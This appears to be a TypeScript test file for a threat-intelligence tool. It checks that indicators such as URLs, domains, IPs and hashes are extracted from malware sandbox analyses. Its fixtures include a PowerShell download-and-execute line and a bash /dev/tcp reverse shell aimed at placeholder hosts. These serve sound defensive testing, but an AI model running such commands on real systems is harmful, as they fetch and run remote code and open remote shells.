import { analysisSchema, type Analysis } from "@fumehood/contract";
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { anyText, anyUrl } from "../testing/any-text.ts";
import { indicator, lookup } from "../testing/feed-analysis.ts";
import { extractEvidence } from "./extract.ts";
import { IOC_LISTS, SAMPLE_LISTS } from "./item.ts";
import { FEED_LIMITS } from "./limits.ts";

const ID = "0".repeat(32);

function linesOf(list: string, analysis: Analysis) {
  return extractEvidence(ID, analysis).filter((row) => row.list === list);
}

function evidence(...data: Record<string, unknown>[]): Analysis {
  return { iocs: [indicator("some", { data })] };
}

test.each([
  [
    "a command line with a URL",
    { Value: 'IEX (DownloadString("http://c2.evil.test:8080/a.ps1"))' },
    "urls",
    ["http://c2.evil.test:8080/a.ps1"],
  ],
  ["its host", { Value: 'IEX (DownloadString("http://c2.evil.test:8080/a.ps1"))' }, "domains", ["c2.evil.test"]],
  ["a defanged URL", { Value: "hxxp://c2[.]evil[.]test/x" }, "domains", ["c2.evil.test"]],
  ["an address in a command", { Value: "sh -i >& /dev/tcp/198.51.100.7/4444" }, "ips", ["198.51.100.7"]],
  ["no bare names in text", { Value: "WScript.Shell evil.test" }, "domains", []],
  ["a URL whose host is an address", { URL: "http://198.51.100.7/x" }, "ips", ["198.51.100.7"]],
  ["an IPv6 address in its short form", { IP: "2001:0db8:0:0::1" }, "ips", ["2001:db8::1"]],
  [
    "a URL that is none but holds one",
    { URL: "javascript:location='http://c2.evil.test/'" },
    "domains",
    ["c2.evil.test"],
  ],
  ["a name in letters beyond ASCII", { Query_Data: "bücher.test." }, "domains", ["xn--bcher-kva.test"]],
  ["a name without a dot, which is none", { Query_Data: "WORKGROUP" }, "domains", []],
  ["lists of values", { IP: ["198.51.100.1", "198.51.100.2"] }, "ips", ["198.51.100.1", "198.51.100.2"]],
  ["an answer that is a name", { Answer_Data: "cname.evil.test" }, "domains", ["cname.evil.test"]],
  ["a digest that no artifact has", { SHA256: "AB".repeat(32) }, "artifacts", ["ab".repeat(32)]],
  ["a digest that is none", { SHA256: "zz" }, "artifacts", []],
  [
    "a key that every object has",
    { Network_Stream: "constructor", Artifact_ID: "__proto__", Process_ID: "toString" },
    "paths",
    [],
  ],
  ["values of other types", { URL: 7, IP: null, Path: { a: 1 }, Value: true, SHA256: [] }, "paths", []],
  ["a text that is too long to be one", { Path: "a".repeat(FEED_LIMITS.valueChars + 1) }, "paths", []],
] as const)("evidence gives %s", (_, row, list, expected) => {
  expect(linesOf(IOC_LISTS[list], evidence(row)).map(({ value }) => value)).toEqual(expected);
});

test("each thing stands once an indicator, however often it is in evidence", () => {
  const rows = Array.from({ length: 20 }, () => ({ Path: "a.exe", URL: "http://c2.evil.test/" }));
  expect(linesOf(IOC_LISTS.paths, evidence(...rows))).toHaveLength(1);
  const twice: Analysis = { iocs: [indicator("one", { data: rows }), indicator("two", { data: rows })] };
  expect(linesOf(IOC_LISTS.urls, twice).map(({ reason }) => reason)).toEqual(["one", "two"]);
});

test("a host that traffic shows is no mere reference", () => {
  const analysis: Analysis = { ...evidence({ URL: "http://c2.evil.test/" }), network: { "0": lookup("c2.evil.test") } };
  expect(linesOf(SAMPLE_LISTS.domains, analysis).map(({ reason }) => reason)).toEqual(["dns-lookup"]);
});

test("an analysis without anything has no lines", () => {
  expect(extractEvidence(ID, {})).toEqual([]);
  expect(extractEvidence(ID, { iocs: null, network: null, artifacts: null, dynamic: null, metadata: null })).toEqual(
    [],
  );
});

test("a sample has no more lines than the limit, curated ones first", () => {
  const data = Array.from({ length: 100 }, (_, index) => ({
    URL: `http://n${index}.evil.test/`,
    Path: `${index}.exe`,
  }));
  const iocs = Array.from({ length: 50 }, (_, index) => indicator(`i${index}`, { category: ["ransomware"], data }));
  const rows = extractEvidence(ID, { iocs });
  expect(rows).toHaveLength(FEED_LIMITS.itemsPerSample);
  expect(rows.filter(({ list }) => list === "curated-ransomware-dns")).toHaveLength(100);
});

test.each([
  ["a list", []],
  ["entries without a question", { "1": {}, "2": null, "3": { query: 7 }, "4": { query: { query_data: 7 } } }],
  ["answers that are none", { "1": { query: { query_data: "a.evil.test" }, answers: { x: 1 } } }],
])("decoded DNS that is %s does no harm", (_, decoded) => {
  const network = { "0": { protocol: "DNS", decoded } };
  expect(() => extractEvidence(ID, { network })).not.toThrow();
});

test("whatever stands in an analysis that the schema lets pass, extraction ends with storable lines", () => {
  const key = fc.constantFrom(
    "URL",
    "IP",
    "Path",
    "SHA256",
    "Artifact_ID",
    "Network_Stream",
    "Process_ID",
    "Value",
    "__proto__",
  );
  const value = fc.oneof(
    anyText(),
    anyUrl(),
    fc.ipV6(),
    fc.integer(),
    fc.constant(null),
    fc.array(anyUrl(), { maxLength: 2 }),
  );
  const row = fc.dictionary(key, value, { maxKeys: 4 });
  const decoded = fc.oneof(
    fc.anything(),
    fc.dictionary(fc.string(), fc.record({ query: fc.record({ query_data: value }) })),
  );
  const analysis = fc.record({
    iocs: fc.array(fc.record({ ioc: fc.string(), severity: fc.integer(), data: fc.array(row, { maxLength: 3 }) }), {
      maxLength: 3,
    }),
    network: fc.dictionary(
      fc.string(),
      fc.record({ protocol: fc.constantFrom("DNS", "HTTP", null), dst: fc.ipV4(), decoded }),
    ),
    domains: fc.dictionary(fc.string(), fc.record({ status: fc.string() })),
  });
  fc.assert(
    fc.property(analysis, (sections) => {
      const parsed = analysisSchema.safeParse(sections);
      fc.pre(parsed.success);
      for (const line of extractEvidence(ID, parsed.data ?? {})) {
        expect(
          line.value.isWellFormed() && !line.value.includes("\0") && line.value.length <= FEED_LIMITS.valueChars,
        ).toBe(true);
        expect(line.severity >= 0 && line.severity <= 100).toBe(true);
      }
    }),
    { numRuns: 40 },
  );
});
